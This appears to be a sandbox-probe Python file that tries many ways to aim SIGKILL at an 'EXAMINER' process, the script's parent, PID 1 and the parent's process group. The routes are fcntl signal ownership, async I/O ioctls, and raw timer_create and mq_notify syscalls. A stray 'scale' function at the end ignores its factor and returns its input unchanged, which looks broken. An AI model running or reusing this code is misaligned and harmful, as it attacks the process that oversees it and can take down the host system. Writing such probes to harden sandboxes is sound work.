"""Aims the signals of input and output, timers and locks at the examiner and its parent."""

import ctypes
import fcntl
import os
import platform
import struct

from known import EXAMINER, attempt

QUICK = True

F_SETSIG, F_SETOWN_EX, F_NOTIFY, FIOASYNC, FIOSETOWN, SIOCSPGRP = 10, 15, 1026, 0x5452, 0x8901, 0x8902
libc = ctypes.CDLL(None, use_errno=True)
reading, writing = os.pipe()
for victim in (EXAMINER, os.getppid(), 1, -os.getppid()):
    for number in (0, 1, 3, reading):
        for command, argument in (
            (fcntl.F_SETOWN, victim), (F_SETSIG, 9), (F_SETOWN_EX, struct.pack("ii", 1, victim)),
            (F_NOTIFY, 0x8000001F), (fcntl.F_SETFL, os.O_ASYNC), (fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
        ):  # fmt: skip
            with attempt(f"fcntl {command} of {number} for {victim}"):
                fcntl.fcntl(number, command, argument)
        for request in (FIOASYNC, FIOSETOWN, SIOCSPGRP):
            with attempt(f"ioctl {request:#x} of {number} for {victim}"):
                fcntl.ioctl(number, request, struct.pack("i", victim))
    with attempt(f"a timer for {victim}"):
        event = struct.pack("qiii", 0, 9, 4, victim) + bytes(44)
        if platform.machine() != "x86_64":
            raise OSError("skipped")
        if libc.syscall(222, 1, event, ctypes.create_string_buffer(8)) < 0:
            raise OSError(ctypes.get_errno(), "refused")
    with attempt(f"a queue for {victim}"):
        event = struct.pack("qiii", 0, 9, 0, victim) + bytes(44)
        if platform.machine() != "x86_64":
            raise OSError("skipped")
        if libc.syscall(244, 3, event) < 0:
            raise OSError(ctypes.get_errno(), "refused")


def scale(values, factor):
    return values
